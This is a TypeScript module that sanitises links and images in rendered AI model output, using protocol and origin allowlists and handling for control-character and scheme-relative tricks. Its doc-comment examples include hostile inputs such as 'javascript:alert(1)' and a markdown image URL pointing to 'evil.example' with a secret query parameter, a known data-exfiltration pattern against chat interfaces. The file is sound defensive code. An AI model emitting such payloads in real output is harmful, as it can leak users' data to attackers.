/** Protocols that links may use unless the caller configures otherwise. */
export const DEFAULT_LINK_PROTOCOLS: readonly string[] = ['http:', 'https:', 'mailto:'];

/** The `rel` every rendered link carries. */
export const LINK_REL = 'noopener noreferrer nofollow';

/**
 * Which URLs model output may point at. Links to other protocols render as their text; images from
 * other origins render as a placeholder and load nothing.
 */
export interface UrlPolicy {
  /** Protocols allowed in links, with the colon. Default: `http:`, `https:`, `mailto:`. */
  readonly linkProtocols?: readonly string[];
  /**
   * Origins images may load from, such as `https://images.example.com`. Default: none, so no
   * image in model output loads anything.
   */
  readonly imageOrigins?: readonly string[];
  /**
   * The URL of the page the links are shown on, which relative and scheme-relative targets
   * (`/docs`, `//host`, `https:host`, `\\host`) resolve against, as the browser would resolve
   * them. Default: none, so a target whose destination depends on the page is refused.
   */
  readonly baseUrl?: string;
}

// Browsers drop ASCII whitespace and control characters inside a scheme, so `java\tscript:` runs.
// biome-ignore lint/suspicious/noControlCharactersInRegex: stripping control characters is the point
const IGNORED_IN_SCHEME = /[\u0000-\u0020\u007f-\u009f\u00ad\u200b-\u200f\u2028\u2029\ufeff]/g;

// Without a base, a target is resolved against two unrelated pages (different protocols, hosts and
// paths): if the results differ, the destination depends on the page and cannot be judged.
const PROBE_BASES = ['https://probe-a.invalid/a/', 'http://probe-b.invalid/b/'] as const;

function parseWith(cleaned: string, base: string): URL | undefined {
  try {
    return new URL(cleaned, base);
  } catch {
    return undefined;
  }
}

/**
 * Resolve `raw` the way a browser showing the page at `baseUrl` would. Returns undefined when it
 * is not a URL, or when there is no base and the destination depends on the page.
 */
function resolveUrl(raw: string, baseUrl: string | undefined): URL | undefined {
  const cleaned = raw.replace(IGNORED_IN_SCHEME, '');
  if (cleaned === '') return undefined;
  if (baseUrl !== undefined) return parseWith(cleaned, baseUrl);
  const [first, second] = PROBE_BASES.map((base) => parseWith(cleaned, base));
  if (!first || !second || first.href !== second.href) return undefined;
  return first;
}

/**
 * The URL a link may render with: `href` resolved against the policy's base, if its protocol is
 * allowed, else undefined. The result is what the browser will follow, so what was checked is
 * what is clicked: `https:evil.example` on an `http:` page becomes `https://evil.example/`, and
 * scheme-relative and backslash forms pass the same protocol allowlist as absolute URLs.
 *
 * @example
 * ```ts
 * resolveLink('https://ably.com'); // 'https://ably.com/'
 * resolveLink('javascript:alert(1)'); // undefined
 * resolveLink('//evil.example'); // undefined: depends on the page, and there is no base
 * resolveLink('/docs', { baseUrl: 'https://app.example/chat' }); // 'https://app.example/docs'
 * ```
 */
export function resolveLink(
  href: string,
  policy: { readonly linkProtocols?: readonly string[]; readonly baseUrl?: string | undefined } = {},
): string | undefined {
  const url = resolveUrl(href, policy.baseUrl);
  if (!url) return undefined;
  const protocols = policy.linkProtocols ?? DEFAULT_LINK_PROTOCOLS;
  const protocol = url.protocol.toLowerCase();
  return protocols.some((p) => p.toLowerCase() === protocol) ? url.href : undefined;
}

/**
 * The URL an image may load from: `src` resolved against the policy's base, if it is `http(s)`
 * and its resolved origin is one of `imageOrigins`, else undefined. With the default policy (no
 * origins) nothing loads, so `![](https://evil.example/?q=secret)` leaks nothing.
 *
 * @example
 * ```ts
 * resolveImage('https://img.example/a.png', { imageOrigins: ['https://img.example'] }); // 'https://img.example/a.png'
 * resolveImage('https://evil.example/?q=secret'); // undefined
 * ```
 */
export function resolveImage(
  src: string,
  policy: { readonly imageOrigins?: readonly string[]; readonly baseUrl?: string | undefined } = {},
): string | undefined {
  const origins = policy.imageOrigins ?? [];
  if (origins.length === 0) return undefined;
  const url = resolveUrl(src, policy.baseUrl);
  if (!url || (url.protocol !== 'https:' && url.protocol !== 'http:')) return undefined;
  return origins.some((origin) => originOf(origin) === url.origin) ? url.href : undefined;
}

/**
 * The origin `raw` resolves to under the policy's base (for naming a refused image), or undefined
 * when it does not resolve.
 *
 * @example
 * ```ts
 * resolvedOrigin('https://evil.example/x.png'); // 'https://evil.example'
 * ```
 */
export function resolvedOrigin(raw: string, baseUrl?: string): string | undefined {
  const origin = resolveUrl(raw, baseUrl)?.origin;
  return origin && origin !== 'null' ? origin : undefined;
}

function originOf(origin: string): string | undefined {
  try {
    return new URL(origin).origin;
  } catch {
    return undefined;
  }
}

/**
 * Whether a link target is safe to render: it resolves (against `baseUrl` when given, else on its
 * own, whatever the page) to an allowed protocol. Control characters and whitespace that browsers
 * strip are removed before the scheme is read, so `java\tscript:` and `JaVaScRiPt:` are both
 * rejected. Render the URL from {@link resolveLink}, not the raw one.
 *
 * @example
 * ```ts
 * isAllowedLink('https://ably.com'); // true
 * isAllowedLink('javascript:alert(1)'); // false
 * isAllowedLink('https:evil.example'); // false: its destination depends on the page
 * ```
 */
export function isAllowedLink(
  href: string,
  protocols: readonly string[] = DEFAULT_LINK_PROTOCOLS,
  baseUrl?: string,
): boolean {
  return resolveLink(href, { linkProtocols: protocols, baseUrl }) !== undefined;
}

/**
 * Whether an image may load: an `http(s)` URL whose resolved origin is in `origins`. With the
 * default (no origins) nothing loads.
 *
 * @example
 * ```ts
 * isAllowedImage('https://img.example/a.png', ['https://img.example']); // true
 * isAllowedImage('https://evil.example/?q=secret'); // false
 * ```
 */
export function isAllowedImage(src: string, origins: readonly string[] = [], baseUrl?: string): boolean {
  return resolveImage(src, { imageOrigins: origins, baseUrl }) !== undefined;
}
